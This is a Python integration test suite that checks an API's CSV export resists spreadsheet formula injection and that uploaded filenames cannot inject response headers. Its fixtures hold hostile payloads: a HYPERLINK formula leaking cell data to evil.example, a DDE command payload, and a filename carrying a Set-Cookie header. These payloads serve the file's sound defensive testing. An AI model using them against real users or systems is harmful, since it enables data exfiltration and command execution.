"""Downloads through the real stack: a CSV of job results never hands a spreadsheet a formula, and a file
uploaded under any name (non-Latin, quotes, backslashes, line breaks) is read back with that name in
Content-Disposition."""

from __future__ import annotations

import csv
import email.utils
import io
import json
import uuid
from email.message import Message
from typing import Any

import httpx
import pytest
from openai import OpenAI

from tests.support.procs import wait_until
from tests.support.stack import Stack

pytestmark = pytest.mark.integration

HOSTILE_LABELS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(A1:A9)", "+cmd|' /C calc'!A0",
                  "-2+3"]
HOSTILE_IDS = ["=1+1", "@SUM(A1)", "+A1", "-1", "\t=2", "plain-id"]


def wait_for_job(client: httpx.Client, job_id: str) -> dict[str, Any]:
    def done() -> dict[str, Any] | None:
        body: dict[str, Any] = client.get(f"/v1/jobs/{job_id}").json()
        return body if body["status"] == "completed" else None

    return wait_until(done, 60, 0.2, f"job {job_id} completed")  # type: ignore[return-value]


def test_job_results_csv_cells_never_start_a_formula(stack: Stack) -> None:
    items = [{"id": item_id, "text": f"Ticket {n}: please classify"} for n, item_id in enumerate(HOSTILE_IDS)]
    with stack.client(stack.new_tenant_key("csv")) as client:
        created = client.post("/v1/jobs", json={"name": "formulas", "tier": "light", "urgent": True,
                                                "labels": HOSTILE_LABELS, "items": items})
        assert created.status_code == 202, created.text
        job_id = created.json()["id"]
        assert wait_for_job(client, job_id)["counts"] == {"succeeded": len(items)}

        # JSONL keeps every value exactly as it is: the neutralising is for spreadsheets only
        raw = client.get(f"/v1/jobs/{job_id}/results", params={"format": "jsonl"})
        rows = [json.loads(line) for line in raw.text.splitlines()]
        assert [row["item_id"] for row in rows] == HOSTILE_IDS
        assert all(row["label"] in HOSTILE_LABELS for row in rows)

        as_csv = client.get(f"/v1/jobs/{job_id}/results", params={"format": "csv"})
        assert as_csv.status_code == 200 and as_csv.headers["content-type"].startswith("text/csv")
        disposition = as_csv.headers["content-disposition"]
        assert f'filename="job-{job_id}.csv"' in disposition and f"filename*=UTF-8''job-{job_id}.csv" in disposition
        cells = list(csv.reader(io.StringIO(as_csv.text)))
        header, body = cells[0], cells[1:]
        assert header == ["item_id", "task_id", "status", "label", "model", "cost_usd", "error"]
        for cell in (value for row in body for value in row):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
        by_column = [dict(zip(header, row, strict=True)) for row in body]
        assert [row["item_id"] for row in by_column] == ["'" + i if i != "plain-id" else i for i in HOSTILE_IDS]
        assert [row["label"] for row in by_column] == ["'" + row["label"] for row in rows]
        assert all(row["cost_usd"][0].isdigit() for row in by_column)  # our own figures are left alone


def _filename_star(header: str) -> str:
    """The name an RFC 6266 client reads: the `filename*` parameter, decoded (RFC 2231/5987)."""
    message = Message()
    message["content-disposition"] = header
    extended = [value for key, value in message.get_params(header="content-disposition") or []
                if key == "filename" and isinstance(value, tuple)]
    assert len(extended) == 1, header
    return email.utils.collapse_rfc2231_value(extended[0])


BATCH_LINE = (json.dumps({"custom_id": "r1", "method": "POST", "url": "/v1/chat/completions",
                          "body": {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]}})
              + "\n").encode()


def _multipart(filename_param: str, content: bytes) -> tuple[bytes, str]:
    """A multipart body written by hand: the part header carries `filename_param` byte for byte (UTF-8), as a
    client other than httpx (which percent-escapes quotes) would send it."""
    boundary = uuid.uuid4().hex
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"purpose\"\r\n\r\nbatch\r\n"
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename={filename_param}\r\n"
            f"Content-Type: application/jsonl\r\n\r\n").encode() + content + f"\r\n--{boundary}--\r\n".encode()
    return body, f"multipart/form-data; boundary={boundary}"


def _read_back(client: httpx.Client, file_id: str, name: str) -> None:
    described = client.get(f"/v1/files/{file_id}")
    assert described.status_code == 200 and described.json()["filename"] == name
    content = client.get(f"/v1/files/{file_id}/content")
    assert content.status_code == 200, content.text
    assert content.content == BATCH_LINE
    header = content.headers["content-disposition"]
    assert header.startswith('attachment; filename="') and header.isascii() and "\n" not in header
    assert "set-cookie" not in {key.lower() for key in content.headers}
    assert _filename_star(header) == name


@pytest.mark.parametrize("name", ["отчёт.jsonl", "報告 2026 😀.jsonl", "100% done; really.jsonl"])
def test_a_file_with_a_non_latin_name_is_read_back_through_the_sdk(stack: Stack, name: str) -> None:
    key = stack.new_tenant_key("names")
    with OpenAI(base_url=stack.api_url + "/v1", api_key=key, max_retries=0, timeout=30) as sdk:
        uploaded = sdk.files.create(file=(name, io.BytesIO(BATCH_LINE)), purpose="batch")
        assert uploaded.filename == name
        downloaded = sdk.files.with_raw_response.content(uploaded.id)
        assert downloaded.status_code == 200 and downloaded.content == BATCH_LINE
    with stack.client(key) as client:
        _read_back(client, uploaded.id, name)


@pytest.mark.parametrize(("param", "name"), [
    ('"say \\"hi\\".jsonl"', 'say "hi".jsonl'),
    ('"back\\\\slash.jsonl"', "back\\slash.jsonl"),
    ('"отчёт \\"итог\\".jsonl"', 'отчёт "итог".jsonl'),
    # a bare LF survives the multipart parser: it must never reach a response header as it is
    ('"line\nSet-Cookie: a=b.jsonl"', "line\nSet-Cookie: a=b.jsonl"),
    ('"tab\there\x7f.jsonl"', "tab\there\x7f.jsonl"),
])
def test_a_file_whose_name_has_quotes_or_control_characters_is_read_back(stack: Stack, param: str, name: str) -> None:
    with stack.client(stack.new_tenant_key("quotes")) as client:
        body, content_type = _multipart(param, BATCH_LINE)
        uploaded = client.post("/v1/files", content=body, headers={"content-type": content_type})
        assert uploaded.status_code == 200, uploaded.text
        _read_back(client, uploaded.json()["id"], name)
